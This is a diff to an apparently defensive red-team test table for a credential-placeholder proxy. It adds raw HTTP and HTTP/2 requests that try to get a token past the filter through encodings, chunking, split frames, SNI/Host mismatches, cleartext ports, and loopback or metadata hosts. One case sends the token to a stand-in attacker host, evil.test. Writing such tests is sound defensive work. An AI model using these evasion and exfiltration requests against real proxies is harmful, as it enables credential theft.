@@ -33,7 +33,7 @@ _PLACES = {
     "cookie": "b'GET /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nCookie: a=' + P + B",
     "user-agent": "b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nUser-Agent: ' + P",
 }
-_PLACEHOLDER = "P = os.environ.get('REDTEAM_TOKEN', 'hwp_nothing').encode(); "
+_PLACEHOLDER = "P = placeholder(); "
 
 ATTACKS: tuple[Attack, ...] = (
     *table("A01", "Publishing to an index that is for reading", {
@@ -87,6 +87,39 @@ ATTACKS: tuple[Attack, ...] = (
     *table("C02", "A placeholder in another place", {
         name: f"{_PLACEHOLDER}site('api.test', {text} + b'\\r\\n\\r\\n')" for name, text in _PLACES.items()
     } | {"body": _PLACEHOLDER + "d = P + B; site('api.test', b'POST /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d) + d)"}, _PARTLY),
+    *table("C03", "A placeholder in another coding, or in pieces", {
+        "basic": _PLACEHOLDER + "import base64\nsite('api.test', b'GET /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nX-Note: ' + B + base64.b64encode(b'x:' + P) + b'\\r\\nX-Api-Key: ' + B + base64.b64encode(P) + b'\\r\\n\\r\\n')",
+        "percent-in-query": _PLACEHOLDER + "site('api.test', b'GET /v1/' + B + b'?t=' + b''.join(b'%%%02x' % o for o in P) + b' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')",
+        "percent-in-path": _PLACEHOLDER + "site('api.test', b'GET /v1/' + b''.join(b'%%%02X' % o for o in P) + b'/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')",
+        "chunks": _PLACEHOLDER + "site('api.test', b'POST /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' + b''.join(b'1\\r\\n' + P[n:n + 1] + b'\\r\\n' for n in range(len(P))) + b'f\\r\\n' + B + b'\\r\\n0\\r\\n\\r\\n')",
+        "records": _PLACEHOLDER + "d = P + B; site('api.test', [b'POST /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d), P[:9], P[9:], B])",
+        "trailer": _PLACEHOLDER + "site('api.test', b'POST /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nX-T: ' + P + B + b'\\r\\n\\r\\n')",
+        "h2-data": _PLACEHOLDER + "h2(h2_request(1, *get('/v1/', 'api.test', 'POST'), end=False), h2_frame(0, 0, 1, P[:7]), h2_frame(0, 0, 1, P[7:]), h2_frame(0, 1, 1, B), name='api.test')",
+    }, _PARTLY),
+    *table("C05", "A placeholder that goes along with a redirect", {
+        "evil": _PLACEHOLDER + "site('api.test', b'GET /v1/simple/redirect/' + B[::-1] + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n'); tls(addr('evil.test'), b'GET /' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', 'evil.test')",
+        "index": _PLACEHOLDER + "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nReferer: https://api.test/\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
+    }, _PARTLY),
+    *table("C06", "A placeholder where the name says one site and the address another", {
+        "site-of-the-index": _PLACEHOLDER + "site('index.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', sni='api.test')",
+        "host-alone": _PLACEHOLDER + "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
+        "other-host-at-the-api": _PLACEHOLDER + "site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
+        "stream": _PLACEHOLDER + "h2(h2_request(1, *get('/v1/', 'api.test')), h2_request(3, *get('/v1/' + M, 'other.test'), ('authorization', 'Bearer ' + P.decode())), name='api.test')",
+    }, _PARTLY),
+    *table("C07", "A placeholder in clear", {
+        "port-80": _PLACEHOLDER + "tcp(addr('api.test'), 80, b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
+        "port-443": _PLACEHOLDER + "tcp(addr('api.test'), 443, b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
+    }, _PARTLY),
+    *table("C16", "A placeholder for a proxy", {
+        "proxy-authorization": _PLACEHOLDER + "site('api.test', b'GET /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nProxy-Authorization: Bearer ' + P + B + b'\\r\\n\\r\\n')",
+    }, _PARTLY),
+    *table("C17", "A placeholder for what its rule is not for", {
+        method.lower(): _PLACEHOLDER + f"site('api.test', b'{method} /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 0\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')" for method in ("DELETE", "PUT", "PATCH")
+    }, _PARTLY),
+    *table("G20", "The second way out, that of requests with a credential", {
+        f"{name}": _PLACEHOLDER + f"tls(addr('{host}'), b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', '{host}')"
+        for name, host in (("to-the-loopback", "api-loopback.test"), ("to-metadata", "api-metadata.test"), ("to-this-host", "api-here.test"))
+    }, _PARTLY),
     *table("C10", "Guessed placeholders", {
         "made-up": "site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer hwp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\r\\n\\r\\n')",
         "one-octet-changed": _PLACEHOLDER + "P = P[:-1] + (b'A' if P[-1:] != b'A' else b'B'); site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
